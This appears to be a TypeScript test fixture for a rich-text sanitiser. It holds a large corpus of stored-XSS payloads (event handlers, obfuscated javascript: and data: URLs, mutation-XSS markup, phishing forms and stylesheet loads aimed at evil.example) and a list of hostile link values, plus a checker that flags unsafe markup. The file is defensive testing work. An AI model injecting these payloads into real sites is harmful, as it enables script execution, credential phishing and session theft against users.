// The one XSS corpus of the project, used by the sanitiser's unit spec (schemas/richText.spec.ts),
// the API test that stores it in every rich-text and link field (tests/api/xss.test.ts) and the
// browser test that shows it on every screen (tests/browser/xss.test.ts).
//
// Payloads are modelled on stored-XSS reports against rich-text admin panels, the OWASP filter
// evasion cheat sheet and DOMPurify's mutation-XSS regressions. Every active payload reports itself
// by calling `window.__xss('<id>')`, so a browser test notices any of them running, whichever way
// it got there.
import { JSDOM } from 'jsdom';

export interface Payload {
  id: string;
  html: string;
}

const call = (id: string) => `window.__xss('${id}')`;

/** Hostile rich text: [id, html]. `$` in the html is replaced by a call reporting the id. */
const RAW: [string, string][] = [
  // Event handlers
  ['img-onerror', '<img src=x onerror="$">'],
  ['img-onerror-unquoted', '<img src=x onerror=$>'],
  ['img-backtick', '<img src=`x`onerror=$>'],
  ['svg-onload', '<svg onload="$">'],
  ['svg-animate-onbegin', '<svg><animate onbegin="$" attributeName=x dur=1s>'],
  ['body-onload', '<body onload="$">'],
  ['input-autofocus', '<input autofocus onfocus="$">'],
  ['details-ontoggle', '<details open ontoggle="$">'],
  ['video-source-onerror', '<video><source onerror="$"></video>'],
  ['audio-onerror', '<audio src=x onerror="$"></audio>'],
  ['marquee-onstart', '<marquee onstart="$">x</marquee>'],
  ['div-mouse', '<div onclick="$" onmouseover="$" onpointerenter="$">悬停</div>'],
  ['p-onanimation', '<p style="animation: x 1s" onanimationstart="$">x</p>'],
  ['a-onclick-kept-href', '<a href="https://ok.example" onclick="$">ok</a>'],
  ['uppercase-handler', '<IMG SRC=x ONERROR="$">'],
  ['slash-separator', '<img/src=x/onerror="$">'],
  // javascript: in every spelling
  ['js-mixed-case', '<a href="JaVaScRiPt:$">x</a>'],
  ['js-entity-dec', '<a href="&#106;avascript:$">x</a>'],
  ['js-entity-dec-padded', '<a href="&#0000106&#0000097vascript:$">x</a>'],
  ['js-entity-hex', '<a href="&#x6A;&#x61;vascript&colon;$">x</a>'],
  ['js-tab', '<a href="java\tscript:$">x</a>'],
  ['js-newline-entity', '<a href="java&#x0A;script:$">x</a>'],
  ['js-leading-space', '<a href=" javascript:$">x</a>'],
  ['js-leading-control', '<a href="\u0001javascript:$">x</a>'],
  ['js-img-src', '<img src="javascript:$">'],
  ['js-iframe-src', '<iframe src="javascript:$"></iframe>'],
  ['js-svg-xlink', '<svg><a xlink:href="javascript:$"><text x=0 y=20>x</text></a></svg>'],
  ['js-math-href', '<math><maction actiontype="statusline" xlink:href="javascript:$">x</maction></math>'],
  ['js-form-action', '<form action="javascript:$"><input type=submit value=go></form>'],
  ['js-button-formaction', '<form><button formaction="javascript:$">go</button></form>'],
  ['js-object-data', '<object data="javascript:$"></object>'],
  ['js-embed-src', '<embed src="javascript:$">'],
  ['js-base-href', '<base href="javascript:$//">'],
  ['vbscript', '<a href="VbScRiPt:msgbox(1)">x</a>'],
  // data: links and sources
  ['data-html-link', '<a href="data:text/html,<script>$</script>">x</a>'],
  ['data-html-b64', '<a href="DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoJ2RhdGEtaHRtbC1iNjQnKTwvc2NyaXB0Pg==">x</a>'],
  ['data-svg-img', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">'],
  ['data-iframe', '<iframe src="data:text/html,<script>$</script>"></iframe>'],
  ['data-object', '<object data="data:text/html,<script>$</script>"></object>'],
  // <script> in its disguises
  ['script-plain', '<script>$</script>'],
  ['svg-script', '<svg><script>$</script></svg>'],
  ['svg-script-href', '<svg><script href="data:,$"></script></svg>'],
  ['script-split', '<scr<script>ipt>$</scr</script>ipt>'],
  ['script-nested-lt', '<<script>script>$<</script>/script>'],
  ['svg-cdata', '<svg><![CDATA[><img src=x onerror="$">]]></svg>'],
  ['comment-break', '<!--><img src=x onerror="$">-->'],
  // Mutation XSS (markup that changes meaning when parsed again)
  ['mxss-noscript', '<noscript><p title="</noscript><img src=x onerror=$>">'],
  ['mxss-math-style', '<math><mtext><table><mglyph><style><img src=x onerror="$">'],
  ['mxss-math-comment', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=$&gt;">'],
  ['mxss-form-math', '<form><math><mtext></form><form><mglyph><style></math><img src onerror="$">'],
  ['mxss-svg-p-style', '<svg></p><style><a id="</style><img src=1 onerror=$>">'],
  ['mxss-math-textarea', '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=$ src=1>">'],
  ['mxss-select-template', '<select><template><style><!--</style><img src=x onerror="$"></template></select>'],
  ['mxss-title', '<title><img src=x onerror="$"></title>'],
  ['mxss-textarea', '<textarea></textarea><img src=x onerror="$">'],
  ['mxss-xmp', '<xmp><p title="</xmp><img src=x onerror=$>">'],
  ['mxss-noembed', '<noembed><p title="</noembed><img src=x onerror=$>">'],
  ['mxss-template', '<template><img src=x onerror="$"></template>'],
  ['mxss-self-close-attr', '<p title="a/><img src=x onerror=$>">x</p>'],
  // Frames, forms, navigation
  ['iframe-remote', '<iframe src="https://evil.example"></iframe>'],
  ['iframe-srcdoc', '<iframe srcdoc="&lt;script&gt;parent.$&lt;/script&gt;"></iframe>'],
  ['form-phish', '<form action="https://evil.example"><input name=password type=password><button>登录</button></form>'],
  ['meta-refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['meta-refresh-js', '<meta http-equiv="refresh" content="0;url=javascript:$">'],
  ['link-stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['object-embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['a-target-opener', '<a href="https://ok.example" target="_self" rel="opener">ok</a>'],
  ['same-origin-action', '<img src="/Ajax/Logout"><a href="/Ajax/Logout">退出</a>'],
  ['dot-segment', '<img src="/files/../Ajax/Logout"><a href="/files/../Ajax/Logout">x</a>'],
  ['protocol-relative', '<a href="//evil.example/">x</a><img src="//evil.example/a.png">'],
  // Styles
  ['style-element', '<style>body{display:none}</style>'],
  ['style-overlay', '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x)">x</p>'],
  ['style-js-url', '<p style="color: red; background-image: url(javascript:$)">x</p>'],
  ['style-expression', '<p style="color: expression($)">x</p>'],
  ['style-import', '<style>@import "https://evil.example/x.css";</style>'],
  // Clobbering and borrowed classes
  ['dom-clobbering', '<img name="__xss"><form id="__proto__"><p id="root" class="MuiDialog-root">x</p></form>'],
];

/**
 * Payloads that are inert as parsed markup and aimed at text-level filters or at serialisation
 * (a sanitiser that edits strings, or writes an attribute back unescaped): dangerous only after a
 * faulty transformation, so `inertnessProblems` finds nothing in them before sanitising.
 */
export const TRANSFORMATION_PAYLOADS = new Set(['script-split', 'mxss-self-close-attr']);

/** The hostile rich-text payloads, each reporting its id if it ever runs. */
export const XSS_PAYLOADS: Payload[] = RAW.map(([id, html]) => ({ id, html: html.replaceAll('$', call(id)) }));

/** Values refused by every link field (UwUrl, VdUrl, ScImg, file lists) and never shown as links. */
export const HOSTILE_URLS: string[] = [
  "javascript:window.__xss('url-js')",
  "JaVaScRiPt:window.__xss('url-js-case')",
  "&#106;avascript:window.__xss('url-js-entity')",
  " javascript:window.__xss('url-js-space')",
  "java\tscript:window.__xss('url-js-tab')",
  "\u0001javascript:window.__xss('url-js-control')",
  "data:text/html,<script>window.__xss('url-data')</script>",
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'https://evil.example/"><script>window.__xss(\'url-break\')</script>',
  "https://evil.example/' onmouseover='window.__xss(1)",
  '/files/../Ajax/Logout',
  'ftp://evil.example/x',
  'file:///etc/passwd',
];

/** Editor content that must come back unchanged (but for rel/target added on links). */
export const GOOD_RICH_TEXT =
  '<h2>总则</h2><p>第一条 为了<strong>加强</strong>管理，<em>制定</em>本办法。</p>' +
  '<ul><li><p>一、工程量清单</p></li><li><p>二、综合单价</p></li></ul>' +
  '<ol><li><p>甲</p></li><li><p>乙</p></li></ol><p style="text-align: center"><b>粗体</b>与<u>下划线</u></p>';

/** One window (costly to make); each check parses a whole new document with its DOMParser. */
const parser = new JSDOM('');

/** Active elements: none may survive sanitising, in any namespace. */
const ACTIVE_ELEMENTS =
  'script,style,iframe,frame,object,embed,applet,form,input,button,textarea,select,meta,link,base,svg,math,template,noscript,xmp,noembed,title,video,audio,source,marquee,details';
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster', 'srcset'];
/** What a kept link or image may point at (the sanitiser's own rule, restated). */
const SAFE_URL = /^(?:https?:\/\/[^\s<>"]+|mailto:[^\s<>"]+|\/files\/[A-Za-z0-9._/-]+)$/i;

/**
 * What would be dangerous in `html` once a browser parses it (jsdom standing for the browser):
 * active elements, event handlers, unsafe URLs, free CSS, clobbering ids. [] when inert.
 */
export function inertnessProblems(html: string): string[] {
  const problems: string[] = [];
  // Parse twice, as the page does when React puts the stored string into innerHTML and then the
  // string is read back and written again (mutation XSS shows on the second parse).
  let current = html;
  for (let round = 0; round < 2; round++) {
    const body = new parser.window.DOMParser().parseFromString(`<!doctype html><body>${current}</body>`, 'text/html').body;
    for (const el of body.querySelectorAll(ACTIVE_ELEMENTS)) problems.push(`element <${el.tagName.toLowerCase()}>`);
    // The body itself too: `<body onload>` inside the content lands on it.
    for (const el of [body, ...body.querySelectorAll('*')]) {
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        if (name.startsWith('on')) problems.push(`handler ${name} on <${el.tagName.toLowerCase()}>`);
        if (URL_ATTRIBUTES.includes(name) && !SAFE_URL.test(attr.value)) problems.push(`${name}="${attr.value}"`);
        if (URL_ATTRIBUTES.includes(name) && attr.value.startsWith('/') && /\/\.\.?(\/|$)/.test(attr.value)) problems.push(`${name}="${attr.value}"`);
        if (name === 'style' && /url\(|expression|position|@import|animation/i.test(attr.value)) problems.push(`style="${attr.value}"`);
        if (name === 'id' || name === 'name' || name === 'class') problems.push(`${name}="${attr.value}"`);
        if (name === 'target' && attr.value !== '_blank') problems.push(`target="${attr.value}"`);
        if (name === 'rel' && /opener/i.test(attr.value.replace(/noopener/gi, ''))) problems.push(`rel="${attr.value}"`);
      }
    }
    current = body.innerHTML;
  }
  return [...new Set(problems)];
}
